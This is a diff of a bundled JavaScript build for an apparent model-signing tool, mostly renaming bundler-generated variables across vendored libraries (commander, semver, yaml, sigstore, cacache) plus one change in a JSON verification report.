@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path25 = __require("node:path");
+    var path26 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path25.resolve(baseDir, baseName);
+          const localBin = path26.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path25.extname(baseName))) return void 0;
+          if (sourceExt.includes(path26.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path25.resolve(
-            path25.dirname(resolvedScriptPath),
+          executableDir = path26.resolve(
+            path26.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path25.basename(
+            const legacyName = path26.basename(
               this._scriptPath,
-              path25.extname(this._scriptPath)
+              path26.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path25.extname(executableFile));
+        launchWithNode = sourceExt.includes(path26.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path25.basename(filename, path25.extname(filename));
+        this._name = path26.basename(filename, path26.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path26) {
-        if (path26 === void 0) return this._executableDir;
-        this._executableDir = path26;
+      executableDir(path27) {
+        if (path27 === void 0) return this._executableDir;
+        this._executableDir = path27;
         return this;
       }
       /**
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "reject" } : { kind: "reject", path: path25 });
+function reject(code, message, path26) {
+  return new ModelsignError(code, message, path26 === void 0 ? { kind: "reject" } : { kind: "reject", path: path26 });
 }
-function usage(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "usage" } : { kind: "usage", path: path25 });
+function usage(code, message, path26) {
+  return new ModelsignError(code, message, path26 === void 0 ? { kind: "usage" } : { kind: "usage", path: path26 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -3631,7 +3631,7 @@ function verifyJson(r) {
     filesChecked: r.filesChecked,
     bytesHashed: r.bytesHashed,
     failures: r.failures,
-    ...r.extra
+    ...r.reports
   };
 }
 function resultLabel(r) {
@@ -6109,10 +6109,10 @@ var require_truncate = __commonJS({
   "node_modules/semver/functions/truncate.js"(exports, module) {
     "use strict";
     var parse2 = require_parse();
-    var constants7 = require_constants();
+    var constants8 = require_constants();
     var SemVer = require_semver();
     var truncate = (version, truncation, options) => {
-      if (!constants7.RELEASE_TYPES.includes(truncation)) {
+      if (!constants8.RELEASE_TYPES.includes(truncation)) {
         return null;
       }
       const clonedVersion = cloneInputVersion(version, options);
@@ -7352,7 +7352,7 @@ var require_semver2 = __commonJS({
   "node_modules/semver/index.js"(exports, module) {
     "use strict";
     var internalRe = require_re();
-    var constants7 = require_constants();
+    var constants8 = require_constants();
     var SemVer = require_semver();
     var identifiers = require_identifiers();
     var parse2 = require_parse();
@@ -7436,8 +7436,8 @@ var require_semver2 = __commonJS({
       re: internalRe.re,
       src: internalRe.src,
       tokens: internalRe.t,
-      SEMVER_SPEC_VERSION: constants7.SEMVER_SPEC_VERSION,
-      RELEASE_TYPES: constants7.RELEASE_TYPES,
+      SEMVER_SPEC_VERSION: constants8.SEMVER_SPEC_VERSION,
+      RELEASE_TYPES: constants8.RELEASE_TYPES,
       compareIdentifiers: identifiers.compareIdentifiers,
       rcompareIdentifiers: identifiers.rcompareIdentifiers
     };
@@ -7521,17 +7521,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path25) {
-      const ctrl = callVisitor(key, node, visitor, path25);
+    function visit_(key, node, visitor, path26) {
+      const ctrl = callVisitor(key, node, visitor, path26);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visit_(key, ctrl, visitor, path25);
+        replaceNode(key, path26, ctrl);
+        return visit_(key, ctrl, visitor, path26);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path26 = Object.freeze(path26.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path25);
+            const ci2 = visit_(i, node.items[i], visitor, path26);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7542,13 +7542,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = visit_("key", node.key, visitor, path25);
+          path26 = Object.freeze(path26.concat(node));
+          const ck = visit_("key", node.key, visitor, path26);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path25);
+          const cv = visit_("value", node.value, visitor, path26);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7569,17 +7569,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path25) {
-      const ctrl = await callVisitor(key, node, visitor, path25);
+    async function visitAsync_(key, node, visitor, path26) {
+      const ctrl = await callVisitor(key, node, visitor, path26);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visitAsync_(key, ctrl, visitor, path25);
+        replaceNode(key, path26, ctrl);
+        return visitAsync_(key, ctrl, visitor, path26);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path26 = Object.freeze(path26.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path25);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path26);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7590,13 +7590,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path25);
+          path26 = Object.freeze(path26.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path26);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path25);
+          const cv = await visitAsync_("value", node.value, visitor, path26);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7623,23 +7623,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path25) {
+    function callVisitor(key, node, visitor, path26) {
       if (typeof visitor === "function")
-        return visitor(key, node, path25);
+        return visitor(key, node, path26);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path25);
+        return visitor.Map?.(key, node, path26);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path25);
+        return visitor.Seq?.(key, node, path26);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path25);
+        return visitor.Pair?.(key, node, path26);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path25);
+        return visitor.Scalar?.(key, node, path26);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path25);
+        return visitor.Alias?.(key, node, path26);
       return void 0;
     }
-    function replaceNode(key, path25, node) {
-      const parent = path25[path25.length - 1];
+    function replaceNode(key, path26, node) {
+      const parent = path26[path26.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8251,10 +8251,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path25, value) {
+    function collectionFromPath(schema, path26, value) {
       let v2 = value;
-      for (let i = path25.length - 1; i >= 0; --i) {
-        const k2 = path25[i];
+      for (let i = path26.length - 1; i >= 0; --i) {
+        const k2 = path26[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8273,7 +8273,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path25) => path25 == null || typeof path25 === "object" && !!path25[Symbol.iterator]().next().done;
+    var isEmptyPath = (path26) => path26 == null || typeof path26 === "object" && !!path26[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8303,11 +8303,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path25, value) {
-        if (isEmptyPath(path25))
+      addIn(path26, value) {
+        if (isEmptyPath(path26))
           this.add(value);
         else {
-          const [key, ...rest] = path25;
+          const [key, ...rest] = path26;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8321,8 +8321,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        const [key, ...rest] = path25;
+      deleteIn(path26) {
+        const [key, ...rest] = path26;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8336,8 +8336,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        const [key, ...rest] = path25;
+      getIn(path26, keepScalar) {
+        const [key, ...rest] = path26;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8355,8 +8355,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path25) {
-        const [key, ...rest] = path25;
+      hasIn(path26) {
+        const [key, ...rest] = path26;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8366,8 +8366,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        const [key, ...rest] = path25;
+      setIn(path26, value) {
+        const [key, ...rest] = path26;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -10882,9 +10882,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path25, value) {
+      addIn(path26, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path25, value);
+          this.contents.addIn(path26, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -10959,14 +10959,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        if (Collection.isEmptyPath(path25)) {
+      deleteIn(path26) {
+        if (Collection.isEmptyPath(path26)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path25) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path26) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -10981,10 +10981,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        if (Collection.isEmptyPath(path25))
+      getIn(path26, keepScalar) {
+        if (Collection.isEmptyPath(path26))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path25, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path26, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -10995,10 +10995,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path25) {
-        if (Collection.isEmptyPath(path25))
+      hasIn(path26) {
+        if (Collection.isEmptyPath(path26))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path25) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path26) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -11015,13 +11015,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        if (Collection.isEmptyPath(path25)) {
+      setIn(path26, value) {
+        if (Collection.isEmptyPath(path26)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path25), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path26), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path25, value);
+          this.contents.setIn(path26, value);
         }
       }
       /**
@@ -12982,9 +12982,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path25) => {
+    visit.itemAtPath = (cst, path26) => {
       let item = cst;
-      for (const [field, index] of path25) {
+      for (const [field, index] of path26) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -12993,23 +12993,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path25) => {
-      const parent = visit.itemAtPath(cst, path25.slice(0, -1));
-      const field = path25[path25.length - 1][0];
+    visit.parentCollection = (cst, path26) => {
+      const parent = visit.itemAtPath(cst, path26.slice(0, -1));
+      const field = path26[path26.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path25, item, visitor) {
-      let ctrl = visitor(item, path25);
+    function _visit(path26, item, visitor) {
+      let ctrl = visitor(item, path26);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path25.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path26.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -13020,10 +13020,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path25);
+            ctrl = ctrl(item, path26);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path25) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path26) : ctrl;
     }
     exports.visit = visit;
   }
@@ -20664,15 +20664,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path26) => path26.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path27) => path27.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path25 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path25].slice(0, -1);
+        const path26 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path26].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -20731,30 +20731,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path25) {
-        if (path25.length < 1) {
+      checkPath(path26) {
+        if (path26.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path25.slice(1).every((cert) => cert.isCA);
+        const validCAs = path26.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path25.length - 2; i >= 0; i--) {
-          if (!path25[i].issuer.equals(path25[i + 1].subject)) {
+        for (let i = path26.length - 2; i >= 0; i--) {
+          if (!path26[i].issuer.equals(path26[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path25.length; i++) {
-          const cert = path25[i];
+        for (let i = 0; i < path26.length; i++) {
+          const cert = path26[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -20858,13 +20858,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path25 = [];
+      let path26 = [];
       timestamps.forEach((timestamp) => {
-        path25 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path26 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path25[0], path25[1], trustMaterial.ctlogs),
-        signer: getSigner(path25[0])
+        scts: (0, sct_1.verifySCTs)(path26[0], path26[1], trustMaterial.ctlogs),
+        signer: getSigner(path26[0])
       };
     }
     function getSigner(cert) {
@@ -22430,7 +22430,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path25, data) {
+      static fromJSON(path26, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
@@ -22440,7 +22440,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path25,
+          path: path26,
           hashes,
           unrecognizedFields: rest
         });
@@ -22839,19 +22839,19 @@ var require_commonjs2 = __commonJS({
     }
     function maskUnmatchedOpens(masked, budget) {
       budget.remaining -= masked.length;
-      const open8 = [];
+      const open9 = [];
       for (let i = 0; i < masked.length; i++) {
         const c = masked.charCodeAt(i);
         if (c === 123) {
-          open8.push(i);
-        } else if (c === 125 && open8.length) {
-          open8.pop();
+          open9.push(i);
+        } else if (c === 125 && open9.length) {
+          open9.pop();
         }
       }
       let out2 = "";
       let last = 0;
-      for (let i = 0; i < open8.length; i++) {
-        const at2 = open8[i];
+      for (let i = 0; i < open9.length; i++) {
+        const at2 = open9[i];
         out2 += masked.slice(last, at2) + "\0";
         last = at2 + 1;
       }
@@ -24015,11 +24015,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path25 = {
+    var path26 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path25.win32.sep : path25.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path26.win32.sep : path26.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -24695,10 +24695,10 @@ var require_commonjs3 = __commonJS({
           }
           return filtered.join("/");
         }).join("|");
-        const [open8, close] = set.length > 1 ? ["(?:", ")"] : ["", ""];
-        re2 = "^" + open8 + re2 + close + "$";
+        const [open9, close] = set.length > 1 ? ["(?:", ")"] : ["", ""];
+        re2 = "^" + open9 + re2 + close + "$";
         if (this.partial) {
-          re2 = "^(?:\\/|" + open8 + re2.slice(1, -1) + close + ")$";
+          re2 = "^(?:\\/|" + open9 + re2.slice(1, -1) + close + ")$";
         }
         if (this.negate)
           re2 = "^(?!" + re2 + ").+$";
@@ -25247,9 +25247,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path25, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path26, metadata]) => ({
         ...acc,
-        [path25]: metadata.toJSON()
+        [path26]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -25258,9 +25258,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path25, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path26, metadata]) => ({
             ...acc,
-            [path25]: file_1.MetaFile.fromJSON(metadata)
+            [path26]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -25442,9 +25442,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path25, target]) => ({
+      return Object.entries(targets).reduce((acc, [path26, target]) => ({
         ...acc,
-        [path25]: target.toJSON()
+        [path26]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -25453,9 +25453,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path25, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path26, target]) => ({
             ...acc,
-            [path25]: file_1.TargetFile.fromJSON(path25, target)
+            [path26]: file_1.TargetFile.fromJSON(path26, target)
           }), {});
         }
       }
@@ -36199,8 +36199,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path25 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
-      return path25;
+      const path26 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
+      return path26;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -36309,7 +36309,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path25) => resolve(path25).split(sep).filter(Boolean);
+    var normalizePathToArray = (path26) => resolve(path26).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -36560,9 +36560,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path25) => {
+    var pathExists = async (path26) => {
       try {
-        await fs2.access(path25);
+        await fs2.access(path26);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -36650,17 +36650,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path25 = __require("path");
+    var path26 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path25.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path26.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path25.join(cache, "tmp");
+      const tmpDir = path26.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path25.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path26.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -36669,7 +36669,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path25.join(cache, "tmp"), cb, opts);
+      return withTempDir(path26.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -36778,12 +36778,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path25.join(
+      return path26.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -36791,7 +36791,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path25.join(cache, `content-v${contentVer}`);
+      return path26.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -37262,7 +37262,7 @@ var require_entry_index = __commonJS({
       writeFile: writeFile5
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -37299,7 +37299,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir6(path25.dirname(target), { recursive: true });
+        await mkdir6(path26.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -37312,7 +37312,7 @@ var require_entry_index = __commonJS({
       };
       const write = async (tmp2) => {
         await writeFile5(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir6(path26.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -37336,7 +37336,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir6(path26.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -37386,17 +37386,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path25.join(indexDir, bucket);
+            const bucketPath2 = path26.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path25.join(bucketPath2, subbucket);
+                const subbucketPath = path26.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path25.join(subbucketPath, entry);
+                    const entryPath = path26.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -37465,13 +37465,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path25.join(cache, `index-v${indexV}`);
+      return path26.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path25.join.apply(
-        path25,
+      return path26.join.apply(
+        path26,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -38217,17 +38217,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path25, opt) {
+      constructor(path26, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path25 !== "string") {
+        if (typeof path26 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path25;
+        this[_path] = path26;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -38373,7 +38373,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path25, opt) {
+      constructor(path26, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -38383,7 +38383,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path25;
+        this[_path] = path26;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -38691,11 +38691,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path25) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path25})`);
+    function integrityError(sri, path26) {
